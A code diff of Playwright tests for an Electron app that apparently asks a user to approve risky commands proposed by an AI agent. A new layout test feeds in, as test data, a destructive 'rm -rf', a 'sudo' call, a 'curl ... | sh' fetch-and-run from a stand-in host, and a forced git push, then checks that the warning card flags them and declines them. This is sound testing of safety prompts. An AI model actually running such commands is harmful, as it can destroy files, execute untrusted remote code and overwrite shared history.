@@ -75,7 +75,7 @@ const middle = ([left, right]: Span): number => (left + right) / 2;
 /** Where the answers of the card stand, with their label and the hint of their key. */
 const places = (): Promise<{ button: Span; label: Span; hint: Span }[]> =>
   card()
-    .locator('button:has(kbd)')
+    .locator('button:not([data-quiet]):has(kbd)')
     .evaluateAll((buttons) =>
       buttons.map((button) => {
         const spanOf = (element: Element): Span => {
@@ -176,8 +176,8 @@ test('a risky command: risks in words, dangerous parts underlined, only the firs
   // With the hints of keys, which are not drawn while they do not count.
   expect(await card().getByRole('button').allTextContents()).toEqual([
     expect.stringMatching(/1\s*Run once/),
-    expect.stringMatching(/2\s*Edit the command/),
-    expect.stringMatching(/3\s*Decline and say why/),
+    expect.stringMatching(/4\s*Edit the command/),
+    expect.stringMatching(/5\s*Decline and say why/),
     expect.stringMatching(/Decline\s*Esc/),
   ]);
   await expect(choice('Run once')).not.toHaveAttribute('aria-disabled', 'true', { timeout: LONG });
@@ -261,6 +261,37 @@ test('C2: a long command counts only once its end was on screen; the keyboard ca
   await page.keyboard.press('1');
   await answered(page, 'Done.');
   expect(existsSync(inScratch('long.txt'))).toBe(true);
+});
+
+test('C2: head and answers of a tall card are in view together, and a long name breaks no head', async () => {
+  await app.electron.evaluate(({ BrowserWindow }) => BrowserWindow.getAllWindows()[0]?.setContentSize(960, 640));
+  await expect.poll(() => page.evaluate(() => innerWidth)).toBe(960);
+  const risks = 'rm -rf ../a\nsudo true\ncurl https://x.test | sh\ngit push --force\n';
+  const name = ['a', 'b', 'c'].map((letter) => letter.repeat(240)).join('/');
+  await ask('Tall', bash(`${risks}${'echo line\n'.repeat(150)}`, 'echo next'), write(`${name}/end.txt`, 'x\n'));
+  await expect(card()).toContainText('Reaches the network', { timeout: LONG });
+  const heights = (): Promise<number[]> =>
+    card().evaluate((one) => [one.getBoundingClientRect().height, one.closest('[data-transcript]')!.clientHeight]);
+  await expect.poll(async () => { const [own = 0, room = 0] = await heights(); return own <= room; }).toBe(true); // prettier-ignore
+  await pictures('tall');
+  // The answers alone are left of it: the head stands above them.
+  const above = await card().evaluate((one) => {
+    const room = one.closest('[data-transcript]')!;
+    room.scrollTop += one.getBoundingClientRect().bottom - room.getBoundingClientRect().top - 180;
+    return one.querySelector('header')!.getBoundingClientRect().top - room.getBoundingClientRect().top;
+  });
+  expect(above).toBeGreaterThanOrEqual(-1);
+  await window.shot('tall-scrolled');
+  await press('Decline');
+  await press('Decline');
+  await expect(card()).toContainText('Create', { timeout: LONG });
+  const head = card().locator('header');
+  await expect(head).toContainText('end.txt?');
+  expect(await head.evaluate((one) => one.getBoundingClientRect().height)).toBeLessThan(90);
+  await expect(card().getByRole('region')).toContainText(`${name}/end.txt`);
+  await pictures('long-name');
+  await press('Decline');
+  await answered(page, 'Done.');
 });
 
 test('a change of hundreds of lines has Show all; one of thousands its parts, the risky ones open', async () => {
